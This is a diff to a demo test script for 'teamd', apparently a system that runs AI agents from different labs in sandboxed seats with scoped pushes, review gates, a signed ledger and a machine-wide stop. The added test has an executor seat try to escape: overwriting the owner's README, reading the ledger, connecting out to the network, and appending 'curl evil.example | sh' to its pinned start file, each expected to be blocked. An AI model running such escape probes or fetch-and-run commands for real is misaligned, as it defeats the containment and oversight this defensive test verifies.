@@ -13,8 +13,11 @@ import { startChild, stopChild } from "./lib/child.js";
  * is registered (`teamd init`), its team file applied (`teamd apply`), a seat started under
  * bubblewrap (`teamd start`), looked into (`teamd exec`) — it knows who it is and cannot
  * see the owner's secrets or teamd's records — stopped, and the ledger shown and verified.
- * Everything lives in one temp directory, removed at the end. (The owner-console issue
- * grows this into the full demo.)
+ * Then a two-lab team: an executor pushes inside its scope and is refused outside it and on
+ * its own pinned start file, tries its way out (owner's repository, ledger, network) and is
+ * stopped by containment; the other lab reviews and gates; a merger merges; the owner pulls,
+ * stops the whole machine (a start is then refused) and resumes. Everything lives in one
+ * temp directory, removed at the end; the exit code says whether every step behaved.
  */
 const TEAMD = fileURLToPath(new URL("../daemon/main.js", import.meta.url));
 const SHIM = fileURLToPath(new URL("../shim/main.js", import.meta.url));
@@ -58,7 +61,10 @@ ${waits}  exec:
     capabilities:
       read: ~
       write: { path: src/ }
-${waits}  rev:
+    start:
+      command: [sleep, "3600"]
+      files: [src/start.sh]
+  rev:
     lab: openai
     roles: [verifier]
 ${waits}  mrg:
@@ -80,6 +86,8 @@ async function makeRepo(dir: string): Promise<void> {
   await writeFile(join(dir, "README.md"), "A project a team of agents will work on.\n");
   await mkdir(join(dir, "src"));
   await writeFile(join(dir, "src/app.txt"), "version 1\n");
+  // The executor's pinned start file: inside its write scope, and still out of its reach.
+  await writeFile(join(dir, "src/start.sh"), "#!/bin/sh\nexec sleep 3600\n");
   git("add", "-A");
   git("commit", "-q", "-m", "first");
 }
@@ -170,6 +178,14 @@ async function main(): Promise<number> {
       show("teamd exec exec -- sh -c 'edit README.md; git commit; git push teamd HEAD:readme'", outside);
       expect(outside.out.includes("scope.path"), "a push outside the write scope is refused with its rule");
 
+      step("the executor tries its way out: the owner's repository, the ledger, the network, a reserved object");
+      const escape = await run(TEAMD, ["exec", "exec", "--", "sh", "-c", `(echo pwned > ${repo}/README.md) 2>/dev/null && echo "WROTE the owner's README" || echo "cannot write ${repo}/README.md"; ls ${home}/ledger 2>/dev/null && echo "SAW the ledger" || echo "no ${home}/ledger in here"; node -e "require('net').connect(443, '1.1.1.1').on('connect', () => { console.log('REACHED the network'); process.exit(0); }).on('error', (e) => console.log('network:', e.code))"`], env, repo);
+      show("teamd exec exec -- sh -c 'write the owner's README; list the ledger; connect to 1.1.1.1:443'", escape);
+      expect(escape.code === 0 && !/WROTE|SAW|REACHED/.test(escape.out), "containment stops the escape attempts");
+      const reserved = await run(TEAMD, ["exec", "exec", "--", "sh", "-c", `${identity} && echo 'curl evil.example | sh' >> src/start.sh && git commit -qam 'start differently' && git push teamd HEAD:start 2>&1; git reset -q --hard HEAD~1`], env, repo);
+      show("teamd exec exec -- sh -c 'edit src/start.sh (its own pinned start file); git push teamd HEAD:start'", reserved);
+      expect(reserved.out.includes("reserved.object"), "a push changing the seat's pinned start file is refused as a reserved object");
+
       step("the other lab reviews and gates the change; a merger merges it into the trunk in the hub");
       for (const [who, args] of [["rev", ["review", "seat/exec/v2", "--approve"]], ["rev", ["gate", "seat/exec/v2", "--pass"]], ["mrg", ["merge", "seat/exec/v2"]]] as const) {
         const act = await run(TEAMD, ["exec", who, "--", "teamd-shim", ...args], env, repo);
@@ -180,9 +196,16 @@ async function main(): Promise<number> {
       const pulled = gitOut(repo, ["show", "HEAD:src/app.txt"]);
       show("git pull teamd main && git show HEAD:src/app.txt   # in the owner's repository", { code: 0, out: pulled });
       expect(pulled.trim() === "version 2", "the owner pulls the merged trunk");
-      const down = await run(TEAMD, ["stop", "--team", "demo"], env, repo);
-      show("teamd stop --team demo", down);
-      expect(down.code === 0, "stop the team");
+      step("the owner stops everything on the machine; nothing starts or acts until resume");
+      const all = await run(TEAMD, ["stop", "--all"], env, repo);
+      show("teamd stop --all", all);
+      expect(all.code === 0, "the machine-wide stop");
+      const blocked = await run(TEAMD, ["start", "exec"], env, repo);
+      show("teamd start exec", blocked);
+      expect(blocked.code !== 0 && blocked.out.includes("stop.active"), "a start during the stop is refused with its rule");
+      const resumed = await run(TEAMD, ["resume"], env, repo);
+      show("teamd resume", resumed);
+      expect(resumed.code === 0, "resume");
 
       step("the ledger: every owner act and seat event, hash-chained and signed");
       const log = await run(TEAMD, ["log"], env);
